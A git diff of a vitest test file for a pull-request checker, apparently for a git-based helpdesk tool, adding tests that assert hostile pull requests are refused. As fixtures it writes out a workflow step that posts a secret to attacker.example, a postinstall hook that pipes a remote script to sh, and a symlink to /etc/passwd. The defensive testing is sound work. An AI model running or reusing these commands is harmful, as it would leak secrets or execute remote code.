@@ -1,4 +1,4 @@
-import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { parseTicket, serializeTicket } from '../lib/core/documents.ts';
@@ -28,10 +28,15 @@ function editTicket(number: number, change: (ticket: Ticket) => Ticket, body?: (
 }
 
 function addMessage(number: number, message: Partial<MessageInput> & Pick<MessageInput, 'author'>, body = 'We restarted the service; please try again.\n'): string {
-  const file = messageFile(number, { message: { date: '2026-11-28T10:00:00Z', visibility: 'public', source: 'pull-request', ...message }, body });
+  // Dated now: the check refuses a message dated before the base tip's commit or in the future.
+  const file = messageFile(number, { message: { date: nowIso(), visibility: 'public', source: 'pull-request', ...message }, body });
   mkdirSync(path.dirname(path.join(dir, file.path)), { recursive: true });
   writeFileSync(path.join(dir, file.path), file.content);
   return file.path;
+}
+
+function nowIso(offsetMs = 0): string {
+  return new Date(Date.now() + offsetMs).toISOString().replace(/\.\d{3}Z$/, 'Z');
 }
 
 function firstMessage(number: number): string {
@@ -243,10 +248,13 @@ describe('gitgus check --base on the command line', () => {
     expect(noAuthor.stderr).toContain('Pass --author <GitHub login>');
   });
 
-  it('judges uncommitted changes in the working tree, including new files', () => {
+  it('judges committed objects only, never the working tree', () => {
     editTicket(165012, (t) => ({ ...t, status: 'in progress' }));
     addMessage(165012, { author: { name: 'Claire Cic', github: 'claire-cic', role: 'supporter', unit: 'cic' } });
-    const ok = runGitgus(['check', '--base', 'main', '--author', 'claire-cic', '--root', dir], { env: { GITHUB_ACTIONS: '' } });
+    const uncommitted = runGitgus(['check', '--base', 'main', '--author', 'mallory', '--root', dir], { env: { GITHUB_ACTIONS: '' } });
+    expect(uncommitted.stderr).toBe('ok: @mallory may make these changes (0 helpdesk file(s), 0 ticket(s)).\n');
+    commitAll();
+    const ok = runGitgus(['check', '--base', 'main', '--head', 'HEAD', '--author', 'claire-cic', '--root', dir], { env: { GITHUB_ACTIONS: '' } });
     expect(ok.stderr).toBe('ok: @claire-cic may make these changes (2 helpdesk file(s), 1 ticket(s)).\n');
     expect(ok.status).toBe(0);
     const refused = runGitgus(['check', '--base', 'main', '--author', 'mallory', '--root', dir], { env: { GITHUB_ACTIONS: '' } });
@@ -259,5 +267,132 @@ describe('gitgus check --base on the command line', () => {
     expect(result.status).toBe(1);
     expect(result.stderr).toContain("base 'no-such-branch' is not a commit");
     expect(result.stderr).toContain('fetch-depth: 0');
+  });
+});
+
+// Issue 15: each test plays an attack a pull request could make and asserts the refusal, with its code and
+// a message that names the rule. The base branch's gitgus judges (here: this checkout's code) and reads
+// only the pull request's committed objects.
+describe('trust boundaries: a pull request cannot pass its own check', () => {
+  const reply = () => addMessage(165012, { author: { name: 'Claire Cic', github: 'claire-cic', role: 'supporter', unit: 'cic' } });
+
+  it('a "reply" that also changes a workflow, package.json and the check itself is refused for a supporter', async () => {
+    reply();
+    mkdirSync(path.join(dir, '.github/workflows'), { recursive: true });
+    writeFileSync(path.join(dir, '.github/workflows/mail-intake.yml'), 'on: push\njobs:\n  leak:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "$SECRET" https://attacker.example\n');
+    writeFileSync(path.join(dir, 'package.json'), '{"scripts":{"postinstall":"curl https://attacker.example | sh"}}\n');
+    mkdirSync(path.join(dir, 'lib/core'), { recursive: true });
+    writeFileSync(path.join(dir, 'lib/core/review.ts'), 'export const administrator = true;\n');
+    writeFileSync(path.join(dir, '.gitattributes'), '* filter=evil\n');
+    commitAll();
+    const problems = (await check('claire-cic')).problems;
+    expect(problems.map((p) => `${p.code} ${p.file}`)).toEqual([
+      'E_ADMIN_ONLY .gitattributes',
+      'E_ADMIN_ONLY .github/workflows/mail-intake.yml',
+      'E_ADMIN_ONLY lib/core/review.ts',
+      'E_ADMIN_ONLY package.json',
+    ]);
+    expect(problems[1]?.message).toBe('is not helpdesk data (tickets/, units/, helpdesk.yml): only helpdesk administrators change code, workflows, package files and anything else, and @claire-cic is not one');
+    // An administrator may change code (code-owner review on GitHub guards it: CODEOWNERS); only Claire's signature is not theirs.
+    expect(await codes('tpm-shifter')).toEqual(['E_MESSAGE_AUTHOR']);
+  });
+
+  it('intake/ is written by intake only: refused for everyone, administrators included', async () => {
+    mkdirSync(path.join(dir, 'intake/message-ids/ab'), { recursive: true });
+    writeFileSync(path.join(dir, 'intake/state.yml'), 'lastNumber: 999999\nindex: 1\n');
+    writeFileSync(path.join(dir, 'intake/message-ids/ab/c.tsv'), 'x\ty\t165012\n');
+    commitAll();
+    for (const author of ['claire-cic', 'tpm-shifter']) {
+      const problems = (await check(author)).problems;
+      expect(problems.map((p) => `${p.code} ${p.file}`)).toEqual(['E_INTAKE_FILE intake/message-ids/ab/c.tsv', 'E_INTAKE_FILE intake/state.yml']);
+      expect(problems[0]?.message).toContain('changes intake/, which only intake writes');
+    }
+  });
+
+  it('a symbolic link or a submodule under tickets/ is refused, for administrators too', async () => {
+    const files = path.join(dir, 'tickets/165/165012/files');
+    mkdirSync(files, { recursive: true });
+    symlinkSync('/etc/passwd', path.join(files, 'passwd.txt'));
+    symlinkSync(`../../165048/${path.basename(firstMessage(165048))}`, path.join(files, 'note.md'));
+    addMessage(165012, { author: { name: 'Claire Cic', github: 'claire-cic', role: 'supporter', unit: 'cic' }, attachments: [{ file: 'passwd.txt', size: 1, type: 'text/plain' }] });
+    git(dir, ['add', '-A']);
+    git(dir, ['update-index', '--add', '--cacheinfo', `160000,${git(dir, ['rev-parse', 'HEAD']).trim()},tickets/165/165012/files/module`]);
+    git(dir, ['commit', '-q', '-m', 'attachments']);
+    expect(git(dir, ['ls-tree', 'HEAD', 'tickets/165/165012/files/']).split('\n').filter(Boolean).map((line) => line.split(' ')[0]).sort()).toEqual(['120000', '120000', '160000']);
+    for (const author of ['claire-cic', 'tpm-shifter']) {
+      const problems = (await check(author)).problems.filter((p) => p.code === 'E_NOT_REGULAR_FILE');
+      expect(problems.map((p) => p.file)).toEqual(['tickets/165/165012/files/module', 'tickets/165/165012/files/note.md', 'tickets/165/165012/files/passwd.txt']);
+      expect(problems.map((p) => p.message)).toEqual([
+        'is a submodule: helpdesk data holds regular files only, so nothing can point outside its ticket folder',
+        'is a symbolic link: helpdesk data holds regular files only, so nothing can point outside its ticket folder',
+        'is a symbolic link: helpdesk data holds regular files only, so nothing can point outside its ticket folder',
+      ]);
+    }
+  });
+
+  it('a ticket folder that is not canonical (wrong shard, leading zeros) is refused', async () => {
+    const message = messageFile(165012, { message: { date: nowIso(), author: { name: 'Claire Cic', github: 'claire-cic', role: 'supporter', unit: 'cic' }, visibility: 'public', source: 'pull-request' }, body: 'Hello\n' });
+    const name = path.basename(message.path);
+    for (const folder of ['tickets/165/0165012/messages', 'tickets/166/165012/messages', 'tickets/0165/165012/messages']) {
+      mkdirSync(path.join(dir, folder), { recursive: true });
+      writeFileSync(path.join(dir, folder, name), message.content);
+    }
+    commitAll();
+    const problems = (await check('claire-cic')).problems;
+    expect(problems.map((p) => p.code)).toEqual(['E_TICKET_PATH', 'E_TICKET_PATH', 'E_TICKET_PATH']);
+    expect(problems[0]?.message).toBe('is not in a canonical ticket folder: ticket #165012 lives in tickets/165/165012 (shard = number div 1000, the number without leading zeros)');
+  });
+
+  it("a message's author is the pull request's author: login, name, address, unit, source and date", async () => {
+    const claire = { name: 'Claire Cic', github: 'claire-cic', role: 'supporter' as const, unit: 'cic' };
+    const cases: [Partial<MessageInput>, string, string][] = [
+      [{ author: { ...claire, github: undefined } }, 'author.github', 'names no GitHub login, but a message in a pull request is signed by its author, @claire-cic'],
+      [{ author: { ...claire, name: 'TPM Shifter' } }, 'author.name', 'signs as TPM Shifter, cic, which is not an entry of @claire-cic'],
+      [{ author: { ...claire, email: 'tpm@grid.example' } }, 'author.email', ''],
+      [{ author: { ...claire, unit: 'tpm' } }, 'author.unit', ''],
+      [{ source: 'mail' }, 'source', 'says it came by mail, but it comes in a pull request'],
+      [{ date: '2026-01-01T00:00:00Z' }, 'date', 'is dated 2026-01-01T00:00:00Z, before the base commit the pull request starts from'],
+      [{ date: nowIso(3 * 3600_000) }, 'date', 'in the future'],
+    ];
+    for (const [index, [change, field, message]] of cases.entries()) {
+      git(dir, ['switch', '-q', '-f', '-C', `pr-author-${index}`, 'main']);
+      git(dir, ['clean', '-q', '-fd']);
+      addMessage(165012, { author: claire, ...change });
+      commitAll();
+      const problems = (await check('claire-cic')).problems;
+      expect(problems.map((p) => `${p.code} ${p.field ?? ''}`), field).toEqual([`E_MESSAGE_AUTHOR ${field}`]);
+      expect(problems[0]?.message).toContain(message);
+    }
+    const [named] = await (async () => {
+      git(dir, ['switch', '-q', '-f', '-C', 'pr-author-name', 'main']);
+      addMessage(165012, { author: { ...claire, name: 'TPM Shifter' } });
+      commitAll();
+      return (await check('claire-cic')).problems;
+    })();
+    expect(named?.message).toBe("signs as TPM Shifter, cic, which is not an entry of @claire-cic in units/ or the ticket's submitter");
+    expect(named?.hint).toBe('Use your own entry: Claire Cic, claire-cic@grid.example, unit cic.');
+  });
+
+  it('a member or administrator given by GitHub id keeps the rights when someone else takes the login', async () => {
+    const unit = path.join(dir, 'units/cic.md');
+    writeFileSync(unit, readFileSync(unit, 'utf8').replace('    github: claire-cic', '    github: claire-cic\n    githubId: 1001'));
+    const settings = path.join(dir, 'helpdesk.yml');
+    writeFileSync(settings, readFileSync(settings, 'utf8').replace('  - tpm-shifter', '  - { github: tpm-shifter, id: 2002 }'));
+    commitAll('Members and administrators by GitHub id');
+    git(dir, ['branch', '-f', 'main-by-id']);
+    git(dir, ['switch', '-q', '-c', 'pr-by-id']);
+    reply();
+    writeFileSync(path.join(dir, 'units/cic.md'), `${readFileSync(unit, 'utf8')}\nNew FAQ line.\n`);
+    commitAll();
+    const judge = (author: string, authorId: number) => checkPullRequest({ root: dir, base: 'main-by-id', head: 'HEAD', author, authorId });
+    // The real accounts: Claire (1001) may reply but not change the unit; the administrator (2002) may do both.
+    expect((await judge('claire-cic', 1001)).problems.map((p) => p.code)).toEqual(['E_ADMIN_ONLY']);
+    // Someone who took over the login `claire-cic` (another id) is no supporter; the login `tpm-shifter` alone is no administrator.
+    const impostor = (await judge('claire-cic', 3003)).problems.map((p) => p.code);
+    expect(impostor).toContain('E_NOT_ALLOWED');
+    expect(impostor).toContain('E_ADMIN_ONLY');
+    const fakeAdmin = await judge('tpm-shifter', 4004);
+    expect(fakeAdmin.administrator).toBe(false);
+    expect((await judge('tpm-shifter', 2002)).administrator).toBe(true);
   });
 });
